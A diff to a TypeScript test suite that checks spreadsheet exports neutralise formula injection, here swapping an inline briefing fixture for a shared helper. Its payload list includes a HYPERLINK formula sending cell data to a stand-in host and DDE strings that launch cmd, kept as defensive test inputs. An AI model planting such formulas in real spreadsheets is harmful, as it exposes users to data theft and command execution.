@@ -6,6 +6,7 @@ import { ANNEX_SHEET_NAME, renderAnnexXlsx } from './annex-xlsx.js';
 import { BRIEFING_SHEETS, renderBriefingXlsx } from './briefing-xlsx.js';
 import { neutraliseCell, neutraliseFormula } from './spreadsheet-text.js';
 import { netSword2021Report } from './testing/net-sword-2021-annex.fixture.js';
+import { emptyBriefing } from './testing/briefing.fixture.js';
 
 // What an attacker would put in a reason or a remark for a coordinator's spreadsheet to run.
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -54,10 +55,7 @@ describe('exports neutralise formulas', () => {
 
   it('given an overdue referral whose reason is a formula, when the briefing is rendered as XLSX, then no cell of any sheet is a formula or starts like one', async () => {
     const briefing: Briefing = {
-      campaign: { id: 'net-sword-2021', name: '网剑行动', title: 't', start: '2021-09-01', end: '2021-12-15', reportDue: '2021-12-05' },
-      generatedAt: '2021-12-05T10:00:00.000Z',
-      since: '2021-11-01T00:00:00.000Z',
-      asOf: '2021-12-05T10:00:00.000Z',
+      ...emptyBriefing(),
       overdue: {
         total: 1,
         byDepartment: [
@@ -84,13 +82,10 @@ describe('exports neutralise formulas', () => {
         ],
       },
       newClusters: [{ clusterId: 'C-1', formedAt: '2021-11-02T00:00:00.000Z', members: ['lead/x'], keys: ['+86 138'], crossRegion: true, crossDepartment: false }],
-      typicalCases: [],
       annex: hostileAnnex(),
-      readiness: { total: 0, complete: 0 },
       byProduct: [{ productCategory: 'cosmetics', leads: 3 }, { productCategory: null, leads: 1 }],
       actions: [{ department: 'samr', guidance: 1, interviews: 2, samplings: 1, batches: 40, failed: 3, closureRequests: 0 }],
       keyPeriodLeads: [{ keyPeriod: 'double_11', label: '=双11集中促销期', leads: 2 }],
-      logCheckpoint: null,
     };
     const workbook = await readBack(await renderBriefingXlsx(briefing));
     const texts: string[] = [];
